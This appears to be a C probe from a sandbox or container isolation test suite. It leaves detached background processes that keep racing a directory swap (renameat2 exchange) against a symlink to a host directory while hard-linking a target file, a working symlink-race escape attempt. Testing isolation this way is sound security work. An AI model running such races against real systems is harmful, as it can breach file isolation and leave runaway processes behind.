#include "../probe.h"

int main(void) {
  /* Processes that go on swapping a directory and a link to the host when the step has ended. */
  const char *file = value("FILE");
  mkdir("/swap", 0755);
  mkdir("/swap/a", 0755);
  close(open("/swap/a/only-root", O_CREAT | O_WRONLY, 0644));
  char directory[512];
  snprintf(directory, sizeof directory, "%s", file);
  *strrchr(directory, '/') = 0;
  if (symlink(directory, "/swap/b")) {
    perror("symlink");
  }
  for (int i = 0; i < 3; i++) {
    if (!fork()) {
      setsid();
      for (int fd = 0; fd < 64; fd++) {
        close(fd);
      }
      while (1) {
        syscall(SYS_renameat2, -1, "/swap/a", -1, "/swap/b", 2);
        link(file, "/swap/hard");
      }
    }
  }
  printf("tried\n");
}
